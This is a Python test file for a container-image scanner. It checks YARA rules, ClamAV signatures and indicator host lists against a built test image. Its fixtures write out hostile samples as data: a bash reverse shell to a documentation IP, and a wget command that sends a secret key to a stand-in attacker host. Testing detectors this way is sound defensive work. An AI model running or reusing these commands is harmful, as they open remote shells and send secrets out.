"""What users ask to have looked for: YARA rules, the signatures of a real clamd, hosts of indicator lists."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import CI, need
from image_maker import Layer, file, make_docker_archive
from product import command, environment, run

SHARE = b"\x7fELF\x02\x01\x01" + bytes(57) + b"a sign of nobody: quokka-7f3a" + bytes(4000)
REVERSE = b"#!/bin/bash\nbash -i >" + b"& /dev" + b"/tcp/198.51.100.7/4444 0>&1\n"


@pytest.fixture
def image(tmp_path: Path) -> Path:
    steps = [
        Layer(file("etc/os-release", "ID=none\n"), file("usr/lib/libplain.so", b"\x7fELF" + bytes(999)), instruction="ADD rootfs.tar /"),
        Layer(file("usr/lib/libquokka.so.1", SHARE, mode=0o755), file("opt/agent.sh", b"#!/bin/sh\nwget http://evil.example/a?key=s3cret\n")),
        Layer(file("opt/.wh.agent.sh", b""), file("opt/b.bin", REVERSE)),
    ]
    return make_docker_archive(tmp_path / "image.tar", steps).path


def scanned(image: Path, folder: Path, *words: str) -> dict[str, Any]:
    return run("scan", image, "--offline", *words, data=folder / "data", code=None, formats=["json"])["json"]


def told(report: dict[str, Any], rule: str) -> list[tuple[str, int, bool]]:
    return [(one["path"], one["origin"]["layer"], one["origin"]["visible"]) for one in report["findings"] if one["rule"] == rule]


# ------------------------------------------------------------------------------------------------------------------- YARA


@pytest.fixture
def yara() -> None:
    try:
        import yara_x  # noqa: F401
    except ImportError:
        pytest.fail("yara-x is not installed") if CI else pytest.skip("yara-x (the extra `malware`) is not installed")


def test_a_rule_of_the_user_finds_a_library_in_its_layer(image: Path, tmp_path: Path, yara: None) -> None:
    rules = tmp_path / "rules" / "deep"
    rules.mkdir(parents=True)
    (rules / "mine.yar").write_text('rule Quokka { meta: severity = "critical" strings: $a = "quokka-7f3a" condition: $a }')
    report = scanned(image, tmp_path, "--yara", str(tmp_path / "rules"))
    assert told(report, "yara-rule") == [("usr/lib/libquokka.so.1", 1, True)]
    finding = next(one for one in report["findings"] if one["rule"] == "yara-rule")
    assert finding["severity"] == "critical"
    assert "Quokka" in finding["message"]
    assert told(scanned(image, tmp_path, "--yara", str(tmp_path / "rules")), "yara-rule") == told(report, "yara-rule")  # from the cache
    assert told(scanned(image, tmp_path), "yara-rule") == []
    (rules / "mine.yar").write_text('rule Nothing { strings: $a = "of no file" condition: $a }')
    assert told(scanned(image, tmp_path, "--yara", str(tmp_path / "rules")), "yara-rule") == []


def test_our_own_rules_find_a_reverse_shell_in_a_file_of_any_name(image: Path, tmp_path: Path, yara: None) -> None:
    assert told(scanned(image, tmp_path, "--yara", "own"), "yara-rule") == [("opt/b.bin", 2, True)]


@pytest.mark.parametrize("rules", ["rule broken {", None])
def test_rules_that_are_none_are_said_with_their_file(rules: str | None, image: Path, tmp_path: Path, yara: None) -> None:
    path = tmp_path / "bad.yar"
    if rules is not None:
        path.write_text(rules)
    done = subprocess.run(
        command("scan", image, "--offline", "--yara", str(path), data=tmp_path / "data"), env=environment(), capture_output=True, text=True
    )
    assert done.returncode == 2
    assert "bad.yar" in done.stderr
    assert "Traceback" not in done.stderr


def test_rules_that_were_asked_for_without_yara_x_are_a_gap(image: Path, tmp_path: Path) -> None:
    hidden = tmp_path / "hidden"
    hidden.mkdir()
    (hidden / "yara_x.py").write_text("raise ImportError('hidden')\n")
    done = run("scan", image, "--offline", "--yara", "own", data=tmp_path / "data", code=None, formats=["json"], environ={"PYTHONPATH": str(hidden)})
    assert [(gap["id"], gap["blind"]) for gap in done["json"]["gaps"] if gap["id"].startswith("yara")] == [("yara-absent", False)]
    assert not [gap for gap in scanned(image, tmp_path)["gaps"] if gap["id"].startswith("yara")]


# ----------------------------------------------------------------------------------------------------------------- ClamAV


@pytest.fixture(scope="module")
def clamd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A real clamd whose only signatures are ours: a whole file by its MD5, and bytes anywhere."""
    program = need("clamd", "clamav-daemon")
    folder = tmp_path_factory.mktemp("clamd")
    signatures = folder / "signatures"
    signatures.mkdir()
    (signatures / "ours.hdb").write_text(f"{hashlib.md5(REVERSE).hexdigest()}:{len(REVERSE)}:Ours.Hash\n")
    (signatures / "ours.ndb").write_text(f"Ours.Bytes:0:*:{b'quokka-7f3a'.hex()}\n")
    address = folder / "clamd.sock"
    settings = {"LocalSocket": address, "DatabaseDirectory": signatures, "Foreground": "yes", "PidFile": folder / "pid", "TemporaryDirectory": folder}
    settings |= {"LogFile": folder / "log", "StreamMaxLength": "30M"}
    (folder / "clamd.conf").write_text("".join(f"{name} {value}\n" for name, value in settings.items()))
    shutil.chown(folder, os.getuid())
    running = subprocess.Popen([program, "-c", str(folder / "clamd.conf")], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        end = time.monotonic() + 60
        while not address.exists():
            assert running.poll() is None, (folder / "log").read_text()
            assert time.monotonic() < end, "clamd does not start"
            time.sleep(0.05)
        yield address
    finally:
        running.terminate()
        running.wait(30)


def test_signatures_of_a_real_clamd_are_found_in_their_layers(image: Path, tmp_path: Path, clamd: Path) -> None:
    report = scanned(image, tmp_path, "--clamd", str(clamd))
    assert told(report, "clamav-signature") == [("opt/b.bin", 2, True), ("usr/lib/libquokka.so.1", 1, True)]
    messages = " ".join(one["message"] for one in report["findings"] if one["rule"] == "clamav-signature")
    assert "Ours.Hash" in messages
    assert "Ours.Bytes" in messages


def test_a_file_longer_than_clamd_is_sent_is_said(tmp_path: Path, clamd: Path) -> None:
    long = make_docker_archive(tmp_path / "long.tar", [Layer(file("srv/long", bytes(26 << 20)))])
    report = scanned(long.path, tmp_path, "--clamd", str(clamd))
    assert [gap["path"] for gap in report["gaps"] if gap["id"] == "limit-exceeded"] == ["srv/long"]


def test_a_clamd_that_is_not_there_is_an_error(image: Path, tmp_path: Path) -> None:
    words = command("scan", image, "--offline", "--clamd", str(tmp_path / "none.sock"), data=tmp_path / "data")
    done = subprocess.run(words, env=environment(), capture_output=True, text=True)
    assert done.returncode == 2
    assert "clamd does not answer" in done.stderr
    assert "Traceback" not in done.stderr


# ------------------------------------------------------------------------------------------------------------- indicators

STIX = {"type": "bundle", "objects": [{"type": "indicator", "pattern": "[domain-name:value = 'evil.example']"}, {"type": "malware", "name": "x"}]}
LISTS = {
    "list.txt": "# ours\nhxxp://evil[.]example/a\n",
    "list.csv": '"first_seen","host","why"\n"2026-01-01","evil.example","loader"\n',
    "list.json": json.dumps(STIX),
    "parent.txt": "example\nevil.example:80\n",
}


@pytest.mark.parametrize("name", LISTS)
def test_a_host_of_a_list_is_found_also_in_a_deleted_script(name: str, image: Path, tmp_path: Path) -> None:
    (tmp_path / name).write_text(LISTS[name])
    report = scanned(image, tmp_path, "--indicators", str(tmp_path / name))
    assert told(report, "known-indicator") == [("opt/agent.sh", 1, False)]


def test_the_query_of_a_url_is_never_told(image: Path, tmp_path: Path) -> None:
    (tmp_path / "list.txt").write_text("evil.example\n")
    report = scanned(image, tmp_path, "--indicators", str(tmp_path / "list.txt"))
    assert "s3cret" not in json.dumps(report)
    assert ("opt/agent.sh", "http://evil.example") in [(mark["path"], mark["message"]) for mark in report["marks"]]


@pytest.mark.parametrize("text", ["", "<html>no</html>", '{"objects": 7}', '{"objects": [', "\0\1\2"])
def test_a_list_that_is_none_is_said(text: str, image: Path, tmp_path: Path) -> None:
    (tmp_path / "bad.txt").write_text(text)
    words = command("scan", image, "--offline", "--indicators", str(tmp_path / "bad.txt"), data=tmp_path / "data")
    done = subprocess.run(words, env=environment(), capture_output=True, text=True)
    assert done.returncode == 2
    assert "bad.txt" in done.stderr
    assert "Traceback" not in done.stderr
